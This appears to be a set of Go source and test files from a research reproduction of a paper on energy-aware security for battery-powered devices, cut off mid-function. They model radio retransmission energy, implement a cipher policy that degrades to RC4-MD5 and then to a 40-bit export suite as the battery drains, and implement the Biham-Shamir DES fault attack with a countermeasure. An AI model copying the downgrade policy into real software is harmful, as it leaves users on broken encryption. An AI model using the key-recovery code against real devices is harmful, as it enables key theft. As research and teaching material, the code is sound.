		if got := fig.TxJ[i] + fig.RxJ[i] + fig.RetxJ[i]; got <= 0 || got > p.PerTxJoules*1.0001 {
			t.Fatalf("ledger does not add up: %v vs %v", got, p.PerTxJoules)
		}
	}
	r := fig.Render()
	if !strings.Contains(r, "radio-retx") {
		t.Fatal("render missing ledger itemization")
	}
}

func TestSimulateLossFigureLinkDown(t *testing.T) {
	fig, err := SimulateLossFigure(0.9, []float64{0}, 7, 2)
	if err != nil {
		t.Fatal(err)
	}
	p := fig.Points[0]
	if !p.LinkDown || p.Transactions != 0 {
		t.Fatalf("90%% drop should kill the link: %+v", p)
	}
}

func TestLossFigureCSV(t *testing.T) {
	fig, err := ComputeLossFigure(0.01, []float64{0, 1e-4})
	if err != nil {
		t.Fatal(err)
	}
	csv := fig.CSV()
	if !strings.HasPrefix(csv, "ber,") || strings.Count(csv, "\n") != 3 {
		t.Fatalf("csv malformed:\n%s", csv)
	}
}
