package core

import (
	"errors"
	"fmt"
	"sort"

	"repro/internal/cost"
	"repro/internal/energy"
	"repro/internal/proc"
	"repro/internal/radio"
	"repro/internal/suite"
)

// This file implements the "battery-aware system design techniques"
// Section 3.3 calls for: the appliance degrades its security
// configuration gracefully as the battery drains, instead of dying early
// at full strength or running unprotected.

// PolicyTier maps a battery band to a cipher suite.
type PolicyTier struct {
	// MinBatteryFrac is the lowest remaining-charge fraction (0..1) at
	// which this tier applies.
	MinBatteryFrac float64
	SuiteID        uint16
}

// AdaptivePolicy selects cipher suites by remaining battery.
type AdaptivePolicy struct {
	tiers []PolicyTier // sorted by MinBatteryFrac descending
}

// NewAdaptivePolicy validates and orders the tiers; at least one tier
// must cover the empty-battery end (MinBatteryFrac == 0).
func NewAdaptivePolicy(tiers []PolicyTier) (*AdaptivePolicy, error) {
	if len(tiers) == 0 {
		return nil, errors.New("core: adaptive policy needs at least one tier")
	}
	covered := false
	for _, t := range tiers {
		if t.MinBatteryFrac < 0 || t.MinBatteryFrac >= 1 {
			return nil, fmt.Errorf("core: tier threshold %v out of [0,1)", t.MinBatteryFrac)
		}
		if t.MinBatteryFrac == 0 {
			covered = true
		}
		if _, err := suite.ByID(t.SuiteID); err != nil {
			return nil, err
		}
	}
	if !covered {
		return nil, errors.New("core: no tier covers the empty-battery band")
	}
	p := &AdaptivePolicy{tiers: append([]PolicyTier{}, tiers...)}
	sort.Slice(p.tiers, func(i, j int) bool {
		return p.tiers[i].MinBatteryFrac > p.tiers[j].MinBatteryFrac
	})
	return p, nil
}

// DefaultAdaptivePolicy is a three-tier policy: full-strength AES+SHA
// above 50%, the cheap RC4+MD5 suite above 15%, and the export suite (a
// last-resort "some protection beats none") below that.
func DefaultAdaptivePolicy() *AdaptivePolicy {
	p, err := NewAdaptivePolicy([]PolicyTier{
		{MinBatteryFrac: 0.5, SuiteID: 0x002F},  // RSA_WITH_AES_128_CBC_SHA
		{MinBatteryFrac: 0.15, SuiteID: 0x0004}, // RSA_WITH_RC4_128_MD5
		{MinBatteryFrac: 0, SuiteID: 0x0003},    // RSA_EXPORT_WITH_RC4_40_MD5
	})
	if err != nil {
		panic("core: default adaptive policy invalid: " + err.Error())
	}
	return p
}

// Choose returns the suite for the battery's current state.
func (p *AdaptivePolicy) Choose(b *energy.Battery) (*suite.Suite, error) {
	frac := b.RemainingJ() / b.CapacityJ()
	for _, t := range p.tiers {
		if frac >= t.MinBatteryFrac {
			return suite.ByID(t.SuiteID)
		}
	}
	return suite.ByID(p.tiers[len(p.tiers)-1].SuiteID)
}

// SessionEnergyJ prices one session (full handshake + kbytes of bulk data
// both ways) on a CPU and radio, using the calibrated cost model.
func SessionEnergyJ(cpu *proc.Processor, r *radio.Radio, s *suite.Suite, kbytes int) (float64, error) {
	h, err := cost.HandshakeInstr(s.KeyExchange)
	if err != nil {
		return 0, err
	}
	bytes := float64(kbytes * 1024)
	instr := h + bytes*cost.BulkInstrPerByte(s.Cipher, s.MAC)
	cpuJ := cpu.EnergyForInstr(instr)
	radioJ := r.TxEnergyJ(kbytes*1024) + r.RxEnergyJ(kbytes*1024)
	return cpuJ + radioJ, nil
}

// LifetimeResult compares a fixed-suite appliance with an adaptive one.
type LifetimeResult struct {
	FixedSuite       string
	FixedSessions    int
	AdaptiveSessions int
	// TierSessions counts adaptive sessions per suite name.
	TierSessions map[string]int
	// Gain is AdaptiveSessions / FixedSessions.
	Gain float64
}

// CompareAdaptiveLifetime drains two identical batteries session by
// session: one always using fixedSuite, one following the policy, and
// reports how many sessions each completes.
func CompareAdaptiveLifetime(cpu *proc.Processor, r *radio.Radio, batteryJ float64,
	fixedSuiteID uint16, policy *AdaptivePolicy, kbytesPerSession int) (*LifetimeResult, error) {
	fixed, err := suite.ByID(fixedSuiteID)
	if err != nil {
		return nil, err
	}
	res := &LifetimeResult{FixedSuite: fixed.Name, TierSessions: make(map[string]int)}

	// Fixed-strength appliance.
	b1, err := energy.NewBattery(batteryJ)
	if err != nil {
		return nil, err
	}
	perFixed, err := SessionEnergyJ(cpu, r, fixed, kbytesPerSession)
	if err != nil {
		return nil, err
	}
	for b1.Drain("session", perFixed) == nil {
		res.FixedSessions++
	}

	// Adaptive appliance.
	b2, err := energy.NewBattery(batteryJ)
	if err != nil {
		return nil, err
	}
	for {
		s, err := policy.Choose(b2)
		if err != nil {
			return nil, err
		}
		per, err := SessionEnergyJ(cpu, r, s, kbytesPerSession)
		if err != nil {
			return nil, err
		}
		if b2.Drain("session", per) != nil {
			break
		}
		res.AdaptiveSessions++
		res.TierSessions[s.Name]++
	}
	if res.FixedSessions > 0 {
		res.Gain = float64(res.AdaptiveSessions) / float64(res.FixedSessions)
	}
	return res, nil
}
