package core

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"math"
	"strings"
	"sync"
	"time"

	"repro/internal/arq"
	"repro/internal/chaos"
	"repro/internal/cost"
	"repro/internal/energy"
	"repro/internal/obs"
	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
	"repro/internal/par"
	"repro/internal/radio"
	"repro/internal/stack"
)

// The loss figure extends Figure 4 to an imperfect channel: the paper
// prices a 1 KB secure transaction on a lossless radio, but a real
// sensor link drops and corrupts frames, and every ARQ retransmission is
// transmit energy the battery never gets back. The figure plots the
// number of 1 KB transactions a 26 KJ battery funds as the bit error
// rate rises, with the repair traffic itemized.

// lossTxBytes is the payload each direction of a transaction carries,
// matching Figure 4's 1 KB transactions.
const lossTxBytes = 1024

// Static energy profile frames for the loss figure: first-copy radio
// traffic split from the ARQ repair traffic, so the retransmission
// energy tax is its own flame. The simulated path reuses the same
// parent frame via Battery.AttachProfile, whose ledger categories
// match these leaf names.
var (
	pLossRoot = prof.Frame("core.LossFigure")
	pLossTx   = prof.Frame("core.LossFigure/radio-tx")
	pLossRx   = prof.Frame("core.LossFigure/radio-rx")
	pLossRetx = prof.Frame("core.LossFigure/radio-retx")
)

// lossMaxRetries bounds the ARQ retransmit budget in both the analytic
// model and the simulation; past it the link is declared down.
const lossMaxRetries = 25

// DefaultLossBERs is the bit-error-rate axis of the loss figure, from a
// clean channel up past the point where ARQ gives up.
var DefaultLossBERs = []float64{0, 1e-5, 1e-4, 5e-4, 1e-3, 5e-3}

// DefaultARQPipeline is the simulated endpoints' transmit-pipeline depth:
// frame k's crypto/framing overlaps frame k-1's radio transmit. Depth 2
// keeps one frame in flight behind the one being prepared; the single
// transmit goroutine preserves wire order, so per-seed fault schedules —
// and therefore figure outputs — are unchanged from the synchronous path.
const DefaultARQPipeline = 2

// LossSimOptions tunes SimulateLossFigure's simulated endpoints without
// touching the analytic model.
type LossSimOptions struct {
	// ARQPipeline is the transmit-pipeline depth for both simulated
	// endpoints; < 0 forces the synchronous (unpipelined) path, 0 means
	// DefaultARQPipeline.
	ARQPipeline int
}

// LossPoint is one column of the loss figure.
type LossPoint struct {
	BER            float64
	FrameErrorRate float64 // per-DATA-frame loss-or-corruption probability
	TxPerFrame     float64 // expected transmissions per DATA frame
	PerTxJoules    float64 // device energy per 1 KB-each-way transaction
	RetxJoules     float64 // share of PerTxJoules spent retransmitting
	Transactions   int     // transactions a full battery funds
	LinkDown       bool    // retry budget exhausted; channel unusable
}

// LossFigure is the transactions-per-battery-vs-BER figure.
type LossFigure struct {
	BatteryJ   float64
	DropRate   float64 // frame-drop probability independent of BER
	MTU        int     // ARQ payload bytes per DATA frame
	FrameBytes int     // largest DATA frame on the wire
	Points     []LossPoint

	// Ledger breakdowns (joules per transaction) are populated by
	// SimulateLossFigure from the battery's drain ledger; analytic
	// figures leave them nil.
	TxJ, RxJ, RetxJ []float64
}

// lossChunks splits the 1 KB transaction payload into ARQ DATA frame
// wire sizes at the given MTU.
func lossChunks(mtu int) []int {
	var sizes []int
	for rem := lossTxBytes; rem > 0; rem -= min(rem, mtu) {
		sizes = append(sizes, min(rem, mtu)+arq.FrameOverhead)
	}
	return sizes
}

// frameErrorRate is the probability one frame of n bytes is lost: either
// dropped outright or hit by at least one bit error.
func frameErrorRate(ber, drop float64, n int) float64 {
	corrupt := 1 - math.Pow(1-ber, float64(8*n))
	return 1 - (1-drop)*(1-corrupt)
}

// ComputeLossFigure evaluates the loss figure analytically for a
// stop-and-wait ARQ over a channel with the given independent frame-drop
// probability and each bit error rate. A DATA frame costs a
// retransmission unless both it and its ack survive, so the expected
// transmissions per frame are 1/((1-FERdata)(1-FERack)); the device pays
// transmit energy for its own (re)transmissions and acks, and receive
// energy for every arriving copy of the peer's traffic.
func ComputeLossFigure(drop float64, bers []float64) (*LossFigure, error) {
	if drop < 0 || drop >= 1 {
		return nil, fmt.Errorf("core: drop rate %v outside [0,1)", drop)
	}
	if len(bers) == 0 {
		bers = DefaultLossBERs
	}
	mtu := 240 // arq.Config default MTU
	chunks := lossChunks(mtu)
	ackB := arq.FrameOverhead
	rad := radio.NewSensorRadio()
	bat, err := energy.NewBattery(cost.SensorBatteryJoules)
	if err != nil {
		return nil, err
	}
	txJ := func(b float64) float64 { return b / 1024 * rad.TxMJPerKB / 1e3 }
	rxJ := func(b float64) float64 { return b / 1024 * rad.RxMJPerKB / 1e3 }

	sp := obs.StartSpan("core", "loss_figure_analytic")
	sp.SetN(int64(len(bers)))
	defer sp.End()
	fig := &LossFigure{
		BatteryJ: bat.CapacityJ(), DropRate: drop,
		MTU: mtu, FrameBytes: chunks[0],
	}
	for bi, ber := range bers {
		if ber < 0 || ber >= 1 {
			return nil, fmt.Errorf("core: BER %v outside [0,1)", ber)
		}
		ferAck := frameErrorRate(ber, drop, ackB)
		pt := LossPoint{BER: ber, FrameErrorRate: frameErrorRate(ber, drop, chunks[0])}
		var txB, rxB, retxB, expTotal float64
		for _, s := range chunks {
			fer := frameErrorRate(ber, drop, s)
			e := 1 / ((1 - fer) * (1 - ferAck)) // expected transmissions
			expTotal += e
			// Own DATA copies out; peer's arriving copies in (each of
			// the peer's e transmissions survives with 1-fer, i.e.
			// 1/(1-ferAck) arrive); one ack out per arriving peer copy;
			// of the peer's acks for our copies, exactly one arrives on
			// average (e·(1-fer)·(1-ferAck) = 1).
			txB += e*float64(s) + float64(ackB)/(1-ferAck)
			rxB += float64(s)/(1-ferAck) + float64(ackB)
			retxB += (e - 1) * float64(s)
		}
		pt.TxPerFrame = expTotal / float64(len(chunks))
		if pt.TxPerFrame > lossMaxRetries {
			pt.LinkDown = true
			journal.Emit(int64(bi), journal.LevelWarn, "core", "loss_link_down",
				journal.F("ber", ber), journal.F("tx_per_frame", pt.TxPerFrame),
				journal.I("max_retries", lossMaxRetries))
			fig.Points = append(fig.Points, pt)
			continue
		}
		if prof.Enabled() {
			pLossTx.AddEnergyJ(txJ(txB - retxB))
			pLossRx.AddEnergyJ(rxJ(rxB))
			pLossRetx.AddEnergyJ(txJ(retxB))
		}
		pt.PerTxJoules = txJ(txB) + rxJ(rxB)
		pt.RetxJoules = txJ(retxB)
		pt.Transactions = bat.TransactionsPossible(pt.PerTxJoules)
		journal.Emit(int64(bi), journal.LevelInfo, "core", "loss_point",
			journal.F("ber", ber),
			journal.F("per_tx_j", pt.PerTxJoules),
			journal.F("retx_j", pt.RetxJoules),
			journal.I("transactions", int64(pt.Transactions)))
		fig.Points = append(fig.Points, pt)
		mLossPoints.Inc()
	}
	return fig, nil
}

// SimulateLossFigure cross-checks the analytic figure by running real
// transactions through a chaos.FaultyTransport + arq.Endpoint link and
// draining an energy.Battery through the ARQ energy hooks. Every wire
// frame the device sends or receives is charged to the ledger under
// "radio-tx", "radio-rx" or "radio-retx"; perPoint transactions are
// simulated per BER and the battery total extrapolated. The seed fixes
// the fault schedule.
func SimulateLossFigure(drop float64, bers []float64, seed int64, perPoint int, opts ...LossSimOptions) (*LossFigure, error) {
	var opt LossSimOptions
	if len(opts) > 0 {
		opt = opts[0]
	}
	pipeline := opt.ARQPipeline
	switch {
	case pipeline == 0:
		pipeline = DefaultARQPipeline
	case pipeline < 0:
		pipeline = 0 // synchronous transmit
	}
	if drop < 0 || drop >= 1 {
		return nil, fmt.Errorf("core: drop rate %v outside [0,1)", drop)
	}
	if len(bers) == 0 {
		bers = DefaultLossBERs
	}
	if perPoint < 1 {
		perPoint = 10
	}
	fig := &LossFigure{
		BatteryJ: cost.SensorBatteryJoules, DropRate: drop,
		MTU: 240, FrameBytes: 240 + arq.FrameOverhead,
	}
	// Each BER point owns its pipe pair, fault schedule (seeded per index),
	// radio and battery, so the points simulate concurrently; par.Map
	// returns them in axis order regardless of finish order. This is the
	// figure's wall-clock hot spot: each point spends real time in ARQ
	// retransmit timers.
	type lossCol struct {
		pt            LossPoint
		tx, rx, retxJ float64
	}
	sp := obs.StartSpan("core", "loss_figure_simulated")
	sp.SetN(int64(len(bers)))
	defer sp.End()
	cols, err := par.Map(context.Background(), par.DefaultWorkers(), bers,
		func(i int, ber float64) (lossCol, error) {
			psp := obs.StartSpan("core", "loss_point")
			pt, tx, rx, retx, err := simulateLossPoint(drop, ber, seed+int64(i)*7919, perPoint, pipeline)
			psp.End()
			if err != nil {
				return lossCol{}, err
			}
			mLossPoints.Inc()
			if pt.LinkDown {
				mLossLinkDowns.Inc()
				journal.Emit(int64(i), journal.LevelWarn, "core", "loss_link_down",
					journal.F("ber", ber), journal.F("tx_per_frame", pt.TxPerFrame))
			} else {
				journal.Emit(int64(i), journal.LevelInfo, "core", "loss_point",
					journal.F("ber", ber),
					journal.F("per_tx_j", pt.PerTxJoules),
					journal.F("retx_j", pt.RetxJoules),
					journal.I("transactions", int64(pt.Transactions)))
			}
			return lossCol{pt: *pt, tx: tx, rx: rx, retxJ: retx}, nil
		})
	if err != nil {
		return nil, err
	}
	for _, c := range cols {
		fig.Points = append(fig.Points, c.pt)
		fig.TxJ = append(fig.TxJ, c.tx)
		fig.RxJ = append(fig.RxJ, c.rx)
		fig.RetxJ = append(fig.RetxJ, c.retxJ)
	}
	return fig, nil
}

func simulateLossPoint(drop, ber float64, seed int64, perPoint, pipeline int) (*LossPoint, float64, float64, float64, error) {
	devLink, gwLink := stack.Pipe()
	devFT, err := chaos.New(devLink, chaos.Config{Seed: seed, Drop: drop, BER: ber})
	if err != nil {
		return nil, 0, 0, 0, err
	}
	gwFT, err := chaos.New(gwLink, chaos.Config{Seed: seed + 1, Drop: drop, BER: ber})
	if err != nil {
		return nil, 0, 0, 0, err
	}
	rad := radio.NewSensorRadio()
	bat, err := energy.NewBattery(cost.SensorBatteryJoules)
	if err != nil {
		return nil, 0, 0, 0, err
	}
	if prof.Enabled() {
		bat.AttachProfile(pLossRoot)
	}
	// The hooks fire from both the writer and the ack path of the
	// receive loop; the radio model is not locked, so guard it here.
	var radMu sync.Mutex
	acfg := arq.Config{
		Window: 1, RetransmitTimeout: 2 * time.Millisecond,
		Backoff: 1, MaxRetries: lossMaxRetries, Pipeline: pipeline,
		OnTransmit: func(n int, retransmit bool) {
			radMu.Lock()
			j := rad.Transmit(n)
			radMu.Unlock()
			cat := "radio-tx"
			if retransmit {
				cat = "radio-retx"
			}
			_ = bat.Drain(cat, j)
		},
		OnReceive: func(n int) {
			radMu.Lock()
			j := rad.Receive(n)
			radMu.Unlock()
			_ = bat.Drain("radio-rx", j)
		},
	}
	dev, err := arq.New(devFT, acfg)
	if err != nil {
		return nil, 0, 0, 0, err
	}
	defer dev.Close()
	gw, err := arq.New(gwFT, arq.Config{
		Window: 1, RetransmitTimeout: 2 * time.Millisecond,
		Backoff: 1, MaxRetries: lossMaxRetries, Pipeline: pipeline,
	})
	if err != nil {
		return nil, 0, 0, 0, err
	}
	defer gw.Close()

	go func() { // gateway: echo each 1 KB transaction
		buf := make([]byte, lossTxBytes)
		for {
			if _, err := io.ReadFull(gw, buf); err != nil {
				return
			}
			if _, err := gw.Write(buf); err != nil {
				return
			}
		}
	}()

	msg := bytes.Repeat([]byte{0x5A}, lossTxBytes)
	in := make([]byte, lossTxBytes)
	completed := 0
	linkDown := false
	// The device's own sender detects a dead link via its retransmit
	// budget, but a reader has no timer: if the *gateway* gives up
	// mid-echo the device would wait forever. Bound the echo wait and
	// treat silence as link-down, like an application-level watchdog.
	echoTimeout := 50 * lossMaxRetries * 2 * time.Millisecond
	readDone := make(chan error, 1)
	for t := 0; t < perPoint; t++ {
		if _, err := dev.Write(msg); err != nil {
			if errors.Is(err, arq.ErrLinkDown) {
				linkDown = true
				break
			}
			return nil, 0, 0, 0, err
		}
		go func() {
			_, err := io.ReadFull(dev, in)
			readDone <- err
		}()
		var readErr error
		select {
		case readErr = <-readDone:
		case <-time.After(echoTimeout):
			linkDown = true
		}
		if linkDown || errors.Is(readErr, arq.ErrLinkDown) {
			linkDown = true
			break
		}
		if readErr != nil {
			return nil, 0, 0, 0, readErr
		}
		completed++
	}

	st := dev.Stats()
	pt := &LossPoint{BER: ber, LinkDown: linkDown}
	if st.DataSent > 0 {
		pt.TxPerFrame = float64(st.DataSent+st.Retransmits) / float64(st.DataSent)
	}
	devStats, gwStats := devFT.Stats(), gwFT.Stats()
	if frames := devStats.Frames + gwStats.Frames; frames > 0 {
		pt.FrameErrorRate = float64(devStats.Dropped+devStats.Corrupted+
			gwStats.Dropped+gwStats.Corrupted) / float64(frames)
	}
	if completed == 0 {
		return pt, 0, 0, 0, nil
	}
	n := float64(completed)
	mLossSimTx.Add(int64(completed))
	mLossSimJ.Add(int64((bat.CapacityJ() - bat.RemainingJ()) * 1e6))
	tx, rx, retx := bat.Drained("radio-tx")/n, bat.Drained("radio-rx")/n, bat.Drained("radio-retx")/n
	pt.PerTxJoules = (bat.CapacityJ() - bat.RemainingJ()) / n
	pt.RetxJoules = retx
	if !linkDown {
		pt.Transactions = bat.TransactionsPossible(pt.PerTxJoules)
	}
	return pt, tx, rx, retx, nil
}

// CSV renders the figure as comma-separated rows for external plotting.
func (f *LossFigure) CSV() string {
	var sb strings.Builder
	sb.WriteString("ber,frame_error_rate,tx_per_frame,j_per_tx,retx_j_per_tx,transactions,link_down\n")
	for _, p := range f.Points {
		fmt.Fprintf(&sb, "%.1e,%.4f,%.3f,%.5f,%.5f,%d,%t\n",
			p.BER, p.FrameErrorRate, p.TxPerFrame, p.PerTxJoules, p.RetxJoules,
			p.Transactions, p.LinkDown)
	}
	return sb.String()
}

// Render prints the figure as a text table with a transaction bar chart.
func (f *LossFigure) Render() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Loss figure — 1 KB transactions per %.0f J battery vs bit error rate\n", f.BatteryJ)
	fmt.Fprintf(&sb, "channel: %.1f%% frame drop + BER; stop-and-wait ARQ, %d B MTU, %d B frames\n",
		f.DropRate*100, f.MTU, f.FrameBytes)
	max := 0
	for _, p := range f.Points {
		if p.Transactions > max {
			max = p.Transactions
		}
	}
	sb.WriteString("      BER      FER  tx/frame      J/tx   retx J/tx  transactions\n")
	for i, p := range f.Points {
		if p.LinkDown {
			fmt.Fprintf(&sb, "  %7.0e  %6.1f%%  %8.2f  link down — retry budget (%d) exhausted\n",
				p.BER, p.FrameErrorRate*100, p.TxPerFrame, lossMaxRetries)
			continue
		}
		bar := ""
		if max > 0 {
			bar = strings.Repeat("#", p.Transactions*40/max)
		}
		fmt.Fprintf(&sb, "  %7.0e  %6.1f%%  %8.2f  %8.5f  %10.5f  %12d %s\n",
			p.BER, p.FrameErrorRate*100, p.TxPerFrame, p.PerTxJoules, p.RetxJoules,
			p.Transactions, bar)
		if f.RetxJ != nil {
			fmt.Fprintf(&sb, "           ledger/tx: radio-tx %.5f J, radio-rx %.5f J, radio-retx %.5f J\n",
				f.TxJ[i], f.RxJ[i], f.RetxJ[i])
		}
	}
	return sb.String()
}
