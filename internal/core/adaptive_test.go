package core

import (
	"testing"

	"repro/internal/energy"
	"repro/internal/proc"
	"repro/internal/radio"
	"repro/internal/suite"
)

func TestAdaptivePolicyValidation(t *testing.T) {
	if _, err := NewAdaptivePolicy(nil); err == nil {
		t.Error("accepted empty policy")
	}
	if _, err := NewAdaptivePolicy([]PolicyTier{{MinBatteryFrac: 0.5, SuiteID: 0x002F}}); err == nil {
		t.Error("accepted policy with uncovered empty-battery band")
	}
	if _, err := NewAdaptivePolicy([]PolicyTier{{MinBatteryFrac: 0, SuiteID: 0xFFFF}}); err == nil {
		t.Error("accepted unknown suite")
	}
	if _, err := NewAdaptivePolicy([]PolicyTier{{MinBatteryFrac: 1.5, SuiteID: 0x002F}}); err == nil {
		t.Error("accepted out-of-range threshold")
	}
}

func TestPolicyChoosesByCharge(t *testing.T) {
	p := DefaultAdaptivePolicy()
	b, _ := energy.NewBattery(100)

	s, err := p.Choose(b)
	if err != nil || s.ID != 0x002F {
		t.Fatalf("full battery: got %v, want AES suite", s)
	}
	b.Drain("x", 60) //nolint:errcheck // 40% left
	if s, _ = p.Choose(b); s.ID != 0x0004 {
		t.Fatalf("40%%: got %s, want RC4_128_MD5", s.Name)
	}
	b.Drain("x", 30) //nolint:errcheck // 10% left
	if s, _ = p.Choose(b); s.ID != 0x0003 {
		t.Fatalf("10%%: got %s, want export suite", s.Name)
	}
}

func TestSessionEnergyOrdering(t *testing.T) {
	cpu, _ := proc.ByName("ARM7-cell-phone")
	r := radio.NewSensorRadio()
	heavy, err := SessionEnergyJ(cpu, r, mustSuite(t, 0x000A), 16) // 3DES+SHA
	if err != nil {
		t.Fatal(err)
	}
	light, err := SessionEnergyJ(cpu, r, mustSuite(t, 0x0004), 16) // RC4+MD5
	if err != nil {
		t.Fatal(err)
	}
	export, err := SessionEnergyJ(cpu, r, mustSuite(t, 0x0003), 16) // export RC4-40
	if err != nil {
		t.Fatal(err)
	}
	if !(export < light && light < heavy) {
		t.Fatalf("energy ordering wrong: export %.4f, light %.4f, heavy %.4f", export, light, heavy)
	}
}

// TestAdaptiveExtendsLifetime is the Section 3.3 payoff: the adaptive
// appliance completes more sessions per charge than the fixed
// full-strength one, while spending its early battery on strong suites.
func TestAdaptiveExtendsLifetime(t *testing.T) {
	cpu, _ := proc.ByName("ARM7-cell-phone")
	r := radio.NewSensorRadio()
	res, err := CompareAdaptiveLifetime(cpu, r, 500, 0x002F, DefaultAdaptivePolicy(), 16)
	if err != nil {
		t.Fatal(err)
	}
	if res.AdaptiveSessions <= res.FixedSessions {
		t.Fatalf("adaptive %d sessions vs fixed %d — no lifetime gain", res.AdaptiveSessions, res.FixedSessions)
	}
	if res.Gain <= 1.0 {
		t.Fatalf("gain %.2f", res.Gain)
	}
	// The strong suite must still carry the early sessions.
	if res.TierSessions["RSA_WITH_AES_128_CBC_SHA"] == 0 {
		t.Fatal("adaptive policy never used the strong suite")
	}
	if res.TierSessions["RSA_EXPORT_WITH_RC4_40_MD5"] == 0 {
		t.Fatal("adaptive policy never degraded to the last-resort suite")
	}
}

func TestCompareAdaptiveValidation(t *testing.T) {
	cpu, _ := proc.ByName("ARM7-cell-phone")
	r := radio.NewSensorRadio()
	if _, err := CompareAdaptiveLifetime(cpu, r, 500, 0xFFFF, DefaultAdaptivePolicy(), 16); err == nil {
		t.Error("accepted unknown fixed suite")
	}
	if _, err := CompareAdaptiveLifetime(cpu, r, -5, 0x002F, DefaultAdaptivePolicy(), 16); err == nil {
		t.Error("accepted negative battery")
	}
}

func mustSuite(t *testing.T, id uint16) *suite.Suite {
	t.Helper()
	s, err := suite.ByID(id)
	if err != nil {
		t.Fatal(err)
	}
	return s
}
