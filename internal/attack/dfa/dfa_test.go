package dfa

import (
	"testing"

	"repro/internal/crypto/des"
	"repro/internal/crypto/prng"
)

var victimKey = []byte{0x13, 0x34, 0x57, 0x79, 0x9B, 0xBC, 0xDF, 0xF1}

func collect(t testing.TB, nPlaintexts int, bits []uint) (*des.Cipher, []Pair) {
	t.Helper()
	c, err := des.NewCipher(victimKey)
	if err != nil {
		t.Fatal(err)
	}
	rng := prng.NewDRBG([]byte("dfa"))
	var pts [][]byte
	for i := 0; i < nPlaintexts; i++ {
		pts = append(pts, rng.Bytes(8))
	}
	pairs, err := CollectPairs(c, pts, bits)
	if err != nil {
		t.Fatal(err)
	}
	return c, pairs
}

// TestRecoverK16: a handful of single-bit R15 glitches pin the full
// 48-bit final-round subkey (experiment A8's positive arm).
func TestRecoverK16(t *testing.T) {
	bits := []uint{0, 3, 7, 11, 14, 18, 21, 25, 28, 30, 2, 9, 16, 23, 27, 31}
	c, pairs := collect(t, 32, bits)
	got, err := RecoverLastSubkey(pairs)
	if err != nil {
		t.Fatalf("recovery failed: %v", err)
	}
	want := c.Subkey(15)
	if got != want {
		t.Fatalf("recovered K16 = %012x, want %012x", got, want)
	}
}

// TestAmbiguousWithTooFewFaults: one fault position leaves most S-boxes
// untouched, so recovery must report ambiguity rather than guess.
func TestAmbiguousWithTooFewFaults(t *testing.T) {
	_, pairs := collect(t, 1, []uint{5})
	if _, err := RecoverLastSubkey(pairs); err == nil {
		t.Fatal("single-pair recovery should be ambiguous")
	}
}

// TestRedundantExecutionSuppressesFaults: the countermeasure emits
// nothing under glitching, starving the attack of faulty ciphertexts.
func TestRedundantExecutionSuppressesFaults(t *testing.T) {
	c, err := des.NewCipher(victimKey)
	if err != nil {
		t.Fatal(err)
	}
	pt := []byte{1, 2, 3, 4, 5, 6, 7, 8}
	if _, err := RedundantEncrypt(c, pt, 9); err == nil {
		t.Fatal("glitched redundant execution emitted output")
	}
}

// TestFaultInjectionChangesOnlyExpectedPath: the helper really produces a
// different ciphertext, and EncryptWithFault on an out-of-range round is
// the identity fault (sanity of the victim model).
func TestFaultInjectionChangesCiphertext(t *testing.T) {
	c, _ := des.NewCipher(victimKey)
	pt := []byte{9, 8, 7, 6, 5, 4, 3, 2}
	correct := make([]byte, 8)
	faulty := make([]byte, 8)
	c.Encrypt(correct, pt)
	c.EncryptWithFault(faulty, pt, 15, 12)
	same := true
	for i := range correct {
		if correct[i] != faulty[i] {
			same = false
		}
	}
	if same {
		t.Fatal("fault injection had no effect")
	}
	none := make([]byte, 8)
	c.EncryptWithFault(none, pt, 99, 12) // never triggers
	for i := range correct {
		if none[i] != correct[i] {
			t.Fatal("round-99 fault should be a no-op")
		}
	}
}

// TestPInverse: PInverse must be a bit permutation — every single-bit
// input maps to a distinct single-bit output. (Its correctness as the
// inverse of P is exercised end-to-end by TestRecoverK16, which only
// succeeds if the output-difference mapping is exact.)
func TestPInverse(t *testing.T) {
	seen := map[uint32]bool{}
	for b := 0; b < 32; b++ {
		out := des.PInverse(1 << uint(b))
		if out == 0 || out&(out-1) != 0 {
			t.Fatalf("PInverse of a single bit is not a single bit: %#x", out)
		}
		if seen[out] {
			t.Fatal("PInverse not injective")
		}
		seen[out] = true
	}
}

func TestCollectPairsValidation(t *testing.T) {
	c, _ := des.NewCipher(victimKey)
	if _, err := CollectPairs(c, nil, []uint{1}); err == nil {
		t.Error("accepted empty plaintexts")
	}
	if _, err := CollectPairs(c, [][]byte{{1, 2}}, []uint{1}); err == nil {
		t.Error("accepted short plaintext")
	}
	if _, err := CollectPairs(c, [][]byte{make([]byte, 8)}, nil); err == nil {
		t.Error("accepted empty fault positions")
	}
	if _, err := RecoverLastSubkey(nil); err == nil {
		t.Error("recovered from no pairs")
	}
}

func BenchmarkDFARecover(b *testing.B) {
	bits := []uint{0, 3, 7, 11, 14, 18, 21, 25, 28, 30, 2, 9, 16, 23, 27, 31}
	_, pairs := collect(b, 32, bits)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := RecoverLastSubkey(pairs); err != nil {
			b.Fatal(err)
		}
	}
}
