// Package dfa implements the Biham-Shamir differential fault analysis of
// DES ("Differential fault analysis of secret key cryptosystems" [43],
// cited in the paper's Section 3.4 fault-induction discussion).
//
// The fault model: a glitch flips one random bit of R15 just before the
// final round. From a correct/faulty ciphertext pair the attacker learns
// R15, R15' and f(R15,K16)⊕f(R15',K16); for every S-box whose input
// changed, only a few 6-bit subkey candidates explain the observed output
// difference. Intersecting candidates over a handful of faulty
// encryptions pins the full 48-bit last-round subkey.
//
// The countermeasure is redundant execution: compute twice, compare,
// and refuse to emit a faulty ciphertext (the same fail-closed discipline
// as RSA's verify-before-release).
package dfa

import (
	"errors"

	"repro/internal/crypto/bitutil"
	"repro/internal/crypto/des"
)

// Pair is one correct/faulty ciphertext pair for the same plaintext.
type Pair struct {
	Correct [8]byte
	Faulty  [8]byte
}

// CollectPairs runs the victim cipher n times with a glitch in R15,
// using the provided bit positions (cycled) to diversify the faults.
func CollectPairs(c *des.Cipher, plaintexts [][]byte, bits []uint) ([]Pair, error) {
	if len(plaintexts) == 0 || len(bits) == 0 {
		return nil, errors.New("dfa: need plaintexts and fault positions")
	}
	pairs := make([]Pair, 0, len(plaintexts))
	for i, pt := range plaintexts {
		if len(pt) != 8 {
			return nil, errors.New("dfa: plaintexts must be 8 bytes")
		}
		var p Pair
		c.Encrypt(p.Correct[:], pt)
		c.EncryptWithFault(p.Faulty[:], pt, 15, bits[i%len(bits)])
